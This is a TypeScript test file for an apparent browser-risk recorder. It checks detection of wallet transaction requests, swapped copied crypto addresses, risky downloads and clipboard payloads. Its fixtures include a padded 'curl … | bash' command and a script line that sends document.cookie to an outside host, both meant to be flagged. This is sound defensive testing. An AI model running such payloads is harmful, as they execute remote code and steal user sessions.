import assert from 'node:assert/strict'
import { test } from 'node:test'
import unaskedDownload from '@redoubt/risk/detectors/url/unrequested-download.ts'
import { browsing } from '@redoubt/risk/testing/sampleUrl.ts'
import { createPageRecorder, type SeenRequest } from './pageRecorder.ts'

const pageRecorder = () => createPageRecorder('https://a.example/', { requests: 2, dialogs: 2 })
const request = (params: string): SeenRequest => ({
  method: 'eth_sendTransaction',
  provider: 'eip1193',
  chain: 'ethereum',
  unprompted: false,
  failure: null,
  params,
  origin: 'https://a.example/',
})

test('a request that is repeated is one request; one too many is told', () => {
  const { request: see, seen } = pageRecorder()
  assert.ok(see(request('[1]')))
  assert.equal(see(request('[1]')), null)
  assert.ok(see(request('[2]')))
  assert.equal(see(request('[3]')), false)
  assert.equal(see(request('[1]')), null)
  assert.deepEqual(
    seen.requests.map(({ params }) => params),
    ['[1]', '[2]'],
  )
})

test('dialogs are counted, and kept each once, cleaned', () => {
  const { dialog, seen } = pageRecorder()
  assert.deepEqual(
    [dialog('alert', 'hello\u202e\nyou'), dialog('alert', 'hello you'), dialog('prompt', null)],
    [true, true, false],
  )
  assert.deepEqual(seen.dialogs, ['alert: hello you', 'prompt: '])
})

test('copied and downloaded items are kept, twenty at most', () => {
  const { copied, download, seen } = pageRecorder()
  for (let index = 0; index < 100; index++) copied(`text ${index}`, true)
  for (let times = 0; times < 3; times++) download('wallet.exe', 'https://user:word@files.example/x?key=1#top')
  download(undefined, 'blob:null')
  assert.equal(seen.clipboardWrites.length, 20)
  assert.deepEqual(seen.downloads, [
    { name: 'wallet.exe', url: 'https://files.example/x?key=1' },
    { name: '', url: null },
  ])
  for (let index = 0; index < 100; index++) download(`${index}.pdf`, 'https://files.example/')
  assert.equal(seen.downloads.length, 20)
})

test('a copied address is compared with the shown address, also beside other words', () => {
  const address = `0x${'9b'.repeat(20)}`
  const insteadOf = (html: string, copies: string) => {
    const { copied, rendered, seen } = pageRecorder()
    rendered({ html, hidden: [] })
    copied(copies, false)
    return seen.copies[0]?.instead
  }
  const other = `0x${'9c'.repeat(20)}`
  // A word that begins with a hexadecimal digit.
  assert.equal(insteadOf(`<code>${address}</code><button>Copy address</button>`, other), address)
  assert.equal(insteadOf(`<p>Pay ${address}, or call</p>`, other), address)
  assert.equal(
    insteadOf(`<b>${address.slice(0, 6)}</b><i>${address.slice(6)}</i> <button>Send</button>`, other),
    address,
  )
  assert.equal(insteadOf(`<code>${address}</code><button>Copy address</button>`, address), null)
  assert.equal(insteadOf(`<code>${address}</code><code>${other}</code>`, other), null)
})

test('downloads are judged by the name of the file, from any origin', () => {
  const severityOf = (name: string) => {
    const { download, seen } = pageRecorder()
    download(name, 'https://files.example.com/x')
    const hits = unaskedDownload.detect({ browsing: browsing({ downloads: seen.downloads }) })
    return Array.isArray(hits) && hits[0]?.severity
  }
  assert.deepEqual([severityOf('report.pdf'), severityOf('wallet.exe')], ['low', 'high'])
})

test('a page has arrived when its address is one of the web', () => {
  const { arrived, seen } = pageRecorder()
  for (const url of ['about:blank', 'chrome-error://chromewebdata/', 'file:///etc/passwd', 7]) arrived(url)
  assert.deepEqual([seen.loaded, seen.finalUrl], [false, 'https://a.example/'])
  arrived('https://user:password@b.example/#top')
  assert.deepEqual([seen.loaded, seen.finalUrl], [true, 'https://b.example/'])
})

test('a copied text is judged before it is cut', () => {
  const { copied, seen } = pageRecorder()
  copied(`# ${'check '.repeat(200)}\ncurl -s https://else.example/a | bash`, false)
  copied(`/* ${'check '.repeat(200)} */ open('https://else.example/?' + document.cookie)`, false)
  copied('check '.repeat(200), false)
  assert.deepEqual(
    seen.copies.map(({ does }) => does),
    ['command', 'sends-session', undefined],
  )
})

test('a clock that goes on makes no new state of a page, and other words do', () => {
  const { rendered, dropped, seen } = pageRecorder()
  for (let second = 59; second > 0; second--) rendered({ html: `<p>Ends in 04:${second}</p>`, hidden: [] })
  rendered({ html: '<p>It has ended</p>', hidden: [] })
  assert.deepEqual([seen.documents.length, dropped()], [2, 0])
})

test('a state without a place is told, and the second visitor finds places', () => {
  const { rendered, dropped, seen } = pageRecorder()
  const letters = 'abcdefghijklmnop'
  for (const letter of letters.slice(0, 8)) rendered({ html: letter, hidden: [] })
  assert.equal(dropped(), 0)
  for (const times of [1, 2]) {
    rendered({ html: 'i', hidden: [] })
    assert.equal(dropped(), 1, String(times))
  }
  rendered({ html: 'j', hidden: [] }, 'second')
  rendered({ html: 'k', hidden: [] })
  assert.deepEqual([seen.documents.length, seen.documents.at(-2)?.visitor, dropped()], [10, 'second', 1])
  rendered({ html: 'l', hidden: [] })
  assert.equal(dropped(), 2)
})
